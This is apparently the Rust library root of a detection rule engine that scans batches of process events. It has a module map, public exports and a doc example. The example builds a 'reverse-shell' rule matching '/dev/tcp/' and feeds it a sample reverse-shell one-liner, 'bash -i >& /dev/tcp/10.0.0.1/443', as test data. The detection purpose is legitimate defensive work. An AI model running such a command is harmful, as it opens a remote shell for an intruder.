//! Runs the plans of all rules over a batch of events.
//!
//! ```text
//! load         plans in, engine out
//! literals     many texts looked for in a value at once
//! index        which rules may be true where
//! facts        what rules ask of values again and again
//! rule         one rule, judged row by row
//! function     what a rule computes from its values
//! processes    the processes that live
//! correlation  what a rule asks of several rows together
//! query        what is asked of many rows that lie there
//! memory       what is remembered, as bytes for another engine
//! scan         one open batch
//! sieve        what is decided before anybody asks
//! view         its columns
//! number       numbers as SQLite has them
//! same         texts compared many bytes at a time
//! word         the first of them, or the last
//! steps        what a rule may cost
//! explain      what one rule will cost, for its author
//! ```
//!
//! As a component the engine is a plugin with rules like any other; as a library it speaks the same
//! words, those of [`daemoneye_sdk::rules`].
//!
//! ```
//! use daemoneye_engine::Engine;
//! use daemoneye_plan::{Builder, Case, ColumnType, Pattern, Test};
//! use daemoneye_sdk::rules::{Batch, Column};
//!
//! let mut plan = Builder::new();
//! let operand = plan.column("command_line", ColumnType::Text);
//! let pattern = Pattern::like("%/dev/tcp/%", None).expect("no escape at its end");
//! let clause = plan.clause("command_line LIKE '%/dev/tcp/%'");
//! plan.leaf(Some(clause), Test::Like { operand, pattern, case: Case::Ignored });
//! let engine = Engine::load(vec![("reverse-shell".into(), plan.finish()?)])?;
//!
//! let lines = ["ls -l", "bash -i >& /dev/tcp/10.0.0.1/443"].map(|line| Some(line.to_owned()));
//! let scan = engine.open(Batch::new(2, vec![Column::Text(lines.into())]))?;
//! let candidates = scan.candidates();
//! assert_eq!(candidates[0].rows, [1]);
//! let verdict = scan.evaluate(candidates[0].rule, &candidates[0].rows, 1_000);
//! assert_eq!(verdict.findings[0].evidence[0].field, "command_line");
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

#[cfg(target_family = "wasm")]
mod component;
mod correlation;
mod explain;
mod facts;
mod function;
mod index;
mod literals;
mod load;
mod memory;
mod number;
mod processes;
mod query;
mod rule;
mod same;
mod scan;
mod sieve;
mod steps;
mod view;
mod word;

pub use explain::{Access, Cost, Explanation, FUEL_PER_STEP, Groups, Needed, Place, explain};
pub use load::{Counters, Engine, LoadError};
pub use memory::RestoreError;
pub use query::{Answer, Datum, Found, Query};
pub use scan::Scan;
pub use view::BatchError;
